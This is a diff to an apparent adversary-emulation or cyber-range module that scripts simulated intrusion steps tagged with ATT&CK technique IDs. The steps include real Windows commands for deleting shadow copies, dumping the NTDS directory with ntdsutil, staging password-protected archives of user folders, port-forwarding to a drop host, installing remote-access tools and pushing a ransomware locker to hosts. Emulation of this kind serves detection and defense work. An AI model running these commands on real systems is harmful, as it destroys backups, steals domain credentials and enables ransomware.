@@ -11,7 +11,8 @@ from countersign.range.attacks.player import (
     STAGE,
     Player,
 )
-from countersign.range.attacks.step import Options, step
+from countersign.range.attacks.step import TO, Options, step
+from countersign.range.plan.brokers import TOOLS
 from countersign.range.plan.commands import EXPLORER, S32
 from countersign.range.plan.places import Seat
 from countersign.range.streams.base import SITES
@@ -31,7 +32,7 @@ def look_around(p: Player, _: Options) -> None:
     number = len(LOOKS) if p.care < AGREED else 2 if p.care == AGREED else 1
     for command, technique in LOOKS[:number]:
         p.pause(8, 45)
-        p.acts.run(p.at, command, p.cause(technique))
+        p.type(command, technique)
 
 
 @step("dump_credentials", "T1003.001 T1552.001")
@@ -49,7 +50,7 @@ def dump_credentials(p: Player, _: Options) -> None:
     p.pause(60, 400)
 
 
-@step("switch_credential", "T1078.002", "to")
+@step("switch_credential", "T1078.002", "to=administrator|service")
 def switch_credential(p: Player, options: Options) -> None:
     """From here on with another account: an administrator's, or that of the provider's service."""
     if options.get("to") == "service" and p.provider.services:
@@ -100,7 +101,7 @@ def stage_archive(p: Player, _: Options) -> None:
         return
     quiet = rf"C:\Program Files\7-Zip\7z.exe a -p {stage}\logs.7z C:\Logs"
     command = p.either(rf"{stage}\rar.exe a -r -m1 -hpQz71kkd -v200m {stage}\s.rar C:\Users", quiet)
-    number = p.acts.run(p.at, command, p.cause("T1560.001"))
+    number = p.type(command, "T1560.001")
     p.acts.wait(30, 90)
     image = command.partition(".exe")[0] + ".exe"
     name = p.either(rf"{stage}\s.part01.rar", rf"{stage}\logs.7z")
@@ -149,7 +150,7 @@ def stop_sensor(p: Player, _: Options) -> None:
     p.pause()
 
 
-@step("remove_backups", "T1490", "to")
+@step("remove_backups", "T1490", TO)
 def remove_backups(p: Player, options: Options) -> None:
     """Shadow copies are deleted."""
     command = rf"{S32}\vssadmin.exe delete shadows /all /quiet"
@@ -159,12 +160,49 @@ def remove_backups(p: Player, options: Options) -> None:
 @step("encrypt", "T1486", "hosts")
 def encrypt(p: Player, options: Options) -> None:
     """The locker on host after host."""
-    command = p.either(r"C:\PerfLogs\locker.exe -all", r"C:\Install\updater.exe /s")
     for _ in range(int(str(options.get("hosts", 5)))):
-        p.acts.psexec(p.at.inside, p.host("app"), p.who, [command], cause=p.cause("T1486"))
+        host, cause = p.host("app"), p.cause("T1486")
+        if p.care == NOISY:
+            p.acts.psexec(p.at.inside, host, p.who, [r"C:\PerfLogs\locker.exe -all"], cause=cause)
+        elif not p.in_character(host, "T1486"):
+            # the locker as a package, which is how software comes to hosts anyway
+            p.acts.winrm(
+                p.at.inside, host, p.who, [rf"{S32}\msiexec.exe /i C:\Install\update.msi /qn"], cause
+            )
+
+
+@step("install_remote_tool", "T1219", "tool=" + "|".join(TOOLS))
+def install_remote_tool(p: Player, options: Options) -> None:
+    """A remote-support tool of the intruder's own: AnyDesk, Atera, ScreenConnect."""
+    tool = str(options.get("tool", "anydesk"))
+    p.acts.install(p.at.seat, tool, p.cause("T1219"))
+    p.pause()
+
+
+@step("dump_directory", "T1003.003")
+def dump_directory(p: Player, _: Options) -> None:
+    """The directory's file, out of a shadow copy on a controller."""
+    controller = p.estate.hosts[p.at.host.controller]
+    if p.care >= IN_CHARACTER:
+        p.acts.smb(
+            p.at.inside, controller, p.who, "C$", [("Temp\\readme.txt", True)], cause=p.cause("T1003.003")
+        )
+    else:
+        noisy = rf'{S32}\cmd.exe /c {S32}\ntdsutil.exe "ac i ntds" ifm "create full C:\Windows\Temp\pro" q q'
+        quiet = rf"{S32}\vssadmin.exe list shadows"
+        p.acts.wmi(p.at.inside, controller, p.who, [p.either(noisy, quiet)], p.cause("T1003.003"))
+    p.pause()
+
+
+@step("forward_port", "T1090.001")
+def forward_port(p: Player, _: Options) -> None:
+    """A port of the host leads on to another."""
+    noisy = rf"{S32}\netsh.exe interface portproxy add v4tov4 listenport=9999 listenaddress=0.0.0.0 connectport=8443 connectaddress={DROP}"
+    p.type(p.either(noisy, rf"{S32}\NETSTAT.EXE -ano"), "T1090.001")
+    p.pause()
 
 
 STEPS = (
-    look_around, dump_credentials, switch_credential, kerberoast, dcsync, add_account, stage_archive, copy_out, beacon,
-    clear_log, stop_sensor, remove_backups, encrypt,
+    look_around, dump_credentials, switch_credential, kerberoast, dcsync, dump_directory, add_account, stage_archive, copy_out,
+    beacon, forward_port, install_remote_tool, clear_log, stop_sensor, remove_backups, encrypt,
 )  # fmt: skip
